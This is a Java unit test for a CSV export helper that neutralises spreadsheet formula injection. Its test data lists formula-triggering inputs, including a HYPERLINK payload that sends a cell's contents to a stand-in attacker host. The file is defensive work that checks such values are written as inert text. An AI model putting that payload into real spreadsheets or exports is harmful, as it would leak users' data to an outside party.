package org.constellation.workflow;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringReader;
import java.util.Arrays;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

class CsvTableTest {

    static final List<String> FORMULAS = List.of(
            "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Cliquez\")",
            "+SUM(1;2)",
            "@SUM(1+1)",
            "-2+3",
            "\t=1+1",
            "\r=1+1",
            "＝1+1",
            "＋SUM(1)",
            "－2",
            "＠SUM(1)");

    @Test
    void everyTextCellThatWouldStartAFormulaStaysText() throws Exception {
        List<List<Object>> rows = FORMULAS.stream()
                .map(formula -> Arrays.<Object>asList(formula, "Nuit des étoiles", 12, -3))
                .toList();
        String written = CsvTable.write(List.of("Titre", "Autre", "Jours", "Écart"), rows);
        assertThat(written).startsWith(CsvTable.BYTE_ORDER_MARK + "Titre;Autre;Jours;Écart");
        List<CSVRecord> read = CSVFormat.EXCEL
                .builder()
                .setDelimiter(';')
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new StringReader(written.substring(1)))
                .getRecords();
        for (int i = 0; i < FORMULAS.size(); i++) {
            assertThat(read.get(i).get("Titre")).isEqualTo("'" + FORMULAS.get(i));
            assertThat(read.get(i).get("Autre")).isEqualTo("Nuit des étoiles");
            assertThat(read.get(i).get("Jours")).as("numbers stay numbers").isEqualTo("12");
            assertThat(read.get(i).get("Écart")).isEqualTo("-3");
        }
    }

    @Test
    void theOpenDataShapeIsRfc4180WithCommasAndNoByteOrderMarkItsTextInertAllTheSame() {
        String written = CsvTable.writeRfc4180(
                List.of("nom", "objet", "montant"),
                List.of(List.of("Club d'astronomie, « Orion »", "-2+3", "12500.50"), List.of("Orion", "", "0.05")));
        assertThat(written)
                .isEqualTo("nom,objet,montant\r\n\"Club d'astronomie, « Orion »\",'-2+3,12500.50\r\nOrion,,0.05\r\n");
    }

    @Test
    void plainTextAndEmptyCellsAreLeftAlone() {
        assertThat(CsvTable.inert("Nuit des étoiles")).isEqualTo("Nuit des étoiles");
        assertThat(CsvTable.inert("")).isEqualTo("");
        assertThat(CsvTable.inert(null)).isNull();
    }
}
